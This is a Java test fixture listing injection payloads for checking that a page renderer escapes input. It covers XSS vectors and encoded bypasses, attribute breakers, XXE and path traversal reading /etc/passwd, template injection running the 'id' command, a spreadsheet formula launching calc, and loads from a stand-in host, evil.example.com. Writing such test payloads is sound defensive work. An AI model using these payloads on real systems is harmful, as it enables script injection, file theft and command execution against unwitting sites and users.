package dev.runbook.attack;

import java.util.List;
import java.util.regex.Pattern;
import java.util.stream.Stream;

/**
 * Texts that make a page do what its reader did not ask for, if any of it is taken for more than
 * text. Whatever runs calls {@code alarm(1)}; whatever is computed gives {@link #COMPUTED}.
 */
final class Attacks {

  /** What a template engine makes of the sum in its texts. */
  static final String COMPUTED = String.valueOf(7 * 191);

  /** A letter, but not of an address that may be linked to. */
  private static final Pattern LETTER = Pattern.compile("https://example\\.com/|\\p{L}");

  private static final List<String> HTML =
      List.of(
          "<script>alarm(1)</script>",
          "<SCRIPT SRC=//evil.example.com/x.js></SCRIPT>",
          "<img src=x onerror=alarm(1)>",
          "<IMG/SRC=x/OnErRoR=alarm(1)>",
          "<svg onload=alarm(1)>",
          "<svg/onload=alarm(1)//",
          "<svg><script>alarm(1)</script></svg>",
          "<svg><animate onbegin=alarm(1) attributeName=x dur=1s>",
          "<svg><a xlink:href='javascript:alarm(1)'><text>x</text></a></svg>",
          "<svg><use href='data:image/svg+xml,<svg id=x onload=alarm(1)/>#x'/></svg>",
          "</text></svg><script>alarm(1)</script>",
          "<body onload=alarm(1)>",
          "<iframe srcdoc='<script>parent.alarm(1)</script>'></iframe>",
          "<iframe src=javascript:parent.alarm(1)></iframe>",
          "<object data=data:text/html,<script>alarm(1)</script>></object>",
          "<embed src=//evil.example.com/x.swf>",
          "<details open ontoggle=alarm(1)>x</details>",
          "<math><mtext><table><mglyph><style><!--</style><img onerror=alarm(1) src=x>",
          "<a href='javascript:alarm(1)'>x</a>",
          "<style>*{background:url(//evil.example.com)}</style>",
          "<link rel=stylesheet href=//evil.example.com/x.css>",
          "<meta http-equiv=refresh content='0;url=//evil.example.com'>",
          "<base href=//evil.example.com/>",
          "<form action=//evil.example.com><input autofocus onfocus=alarm(1)>",
          "<x onclick=alarm(1) style=position:fixed;inset:0>click",
          "<template><script>alarm(1)</script></template>",
          "<noscript><p title='</noscript><img src=x onerror=alarm(1)>'>",
          "<scr<script>ipt>alarm(1)</scr</script>ipt>",
          "<<script>alarm(1)//<</script>",
          "<plaintext>");

  private static final List<String> BREAKERS =
      List.of(
          "\"><img src=x onerror=alarm(1)>",
          "'><img src=x onerror=alarm(1)>",
          "\" onmouseover=\"alarm(1)",
          "\" autofocus onfocus=alarm(1) x=\"",
          "' autofocus onfocus='alarm(1)",
          "` onmouseover=alarm(1) `",
          "x onmouseover=alarm(1) ",
          "</title><script>alarm(1)</script>",
          "</textarea><script>alarm(1)</script>",
          "</style><script>alarm(1)</script>",
          "</script><script>alarm(1)</script>",
          "</code></pre><script>alarm(1)</script>",
          "</select></option><img src=x onerror=alarm(1)>",
          "--><script>alarm(1)</script>",
          "--!><script>alarm(1)</script>",
          "<!--><script>alarm(1)</script-->",
          "<![CDATA[<script>alarm(1)</script>]]>",
          "]]><script>alarm(1)</script>",
          "?><script>alarm(1)</script>",
          "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
          "\");alarm(1);(\"",
          "');alarm(1);//",
          "\\\");alarm(1);//",
          "\\';alarm(1);//",
          "`;${alarm(1)};`",
          "*/alarm(1)/*",
          "\u2028alarm(1)\u2029//",
          "\",\"__proto__\":{\"x\":1},\"y\":\"");

  private static final List<String> LINKS =
      List.of(
          "[x](javascript:alarm(1))",
          "[x](JaVaScRiPt:alarm(1))",
          "[x](java\tscript:alarm(1))",
          "[x](&#106;avascript:alarm(1))",
          "[x](javascript&colon;alarm(1))",
          "[x](%6aavascript:alarm(1))",
          "[x](<javascript:alarm(1)>)",
          "[x](javascript:alarm(1) \"x\")",
          "[x](vbscript:alarm(1))",
          "[x](data:text/html;base64,PHNjcmlwdD5hbGFybSgxKTwvc2NyaXB0Pg==)",
          "[x](blob:https://example.com/x)",
          "[x](//evil.example.com)",
          "[x](\\\\evil.example.com)",
          "[x](/\\evil.example.com)",
          "![x](javascript:alarm(1))",
          "![x](//evil.example.com/pixel.png)",
          "![x](data:image/svg+xml,<svg onload=alarm(1)>)",
          "[![x](//evil.example.com/pixel.png)](javascript:alarm(1))",
          "<javascript:alarm(1)>",
          "<data:text/html,x>",
          "[x]: javascript:alarm(1)",
          "[x](https://example.com/\"onmouseover=\"alarm(1))",
          "[x](https://example.com/ \"x\\\" onmouseover=\\\"alarm(1)\")",
          "javascript:alarm(1)",
          "javascript://example.com/%0aalarm(1)",
          "//evil.example.com");

  private static final List<String> TEMPLATES =
      List.of(
          "${7*191}",
          "#{7*191}",
          "[=7*191]",
          "[#if true]x[/#if]",
          "[#assign x=7*191][=x]",
          "<#assign x=7*191>${x}",
          "<@x/>[@x/]",
          "${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
          "[=\"freemarker.template.utility.Execute\"?new()(\"id\")]",
          "{{7*191}}",
          "{{{7*191}}}",
          "{{constructor.constructor('alarm(1)')()}}",
          "{% set x = 7*191 %}{{ x }}",
          "{{ printf \"%s\" (html \"x\") }}",
          "{{#with \"s\" as |x|}}{{x}}{{/with}}",
          "<%= 7*191 %>",
          "<jsp:include page=\"/etc/passwd\"/>",
          "#set($x=7*191)$x",
          "*{7*191}@{7*191}~{x}",
          "--8<-- \"/etc/passwd\"");

  private static final List<String> OTHERS =
      List.of(
          "expression(alarm(1))",
          "x;background:url(javascript:alarm(1))",
          "@import '//evil.example.com/x.css';",
          "}*{background:url(//evil.example.com/x)}",
          "{: onclick=alarm(1) }",
          "x {: onmouseover=\"alarm(1)\" }",
          "x {#x onclick=alarm(1)}",
          "!!! note \"<script>alarm(1)</script>\"",
          "    <script>alarm(1)</script>",
          "&lt;script&gt;alarm(1)&lt;/script&gt;",
          "&#60;script&#62;alarm(1)&#60;/script&#62;",
          "%3Cscript%3Ealarm(1)%3C/script%3E",
          "\\u003cscript\\u003ealarm(1)\\u003c/script\\u003e",
          "+ADw-script+AD4-alarm(1)+ADw-/script+AD4-",
          "<\u200bscript>alarm(1)</script>",
          "\uff1cscript\uff1ealarm(1)\uff1c/script\uff1e",
          "<\u017fcript>alarm(1)</\u017fcript>",
          "\ufeff<script>alarm(1)</script>",
          "\u202ealarm(1)",
          "=cmd|'/c calc'!A1",
          "../../../../etc/passwd",
          "%2e%2e%2f%2e%2e%2fetc/passwd");

  private Attacks() {}

  /** All of them. */
  static List<String> all() {
    return Stream.of(HTML, BREAKERS, LINKS, TEMPLATES, OTHERS).flatMap(List::stream).toList();
  }

  /**
   * A text of the same shape that means nothing: no element, attribute, scheme or function has a
   * name of this letter alone.
   */
  static String harmless(String attack) {
    return LETTER.matcher(attack).replaceAll(m -> m.group().length() > 1 ? m.group() : "w");
  }
}
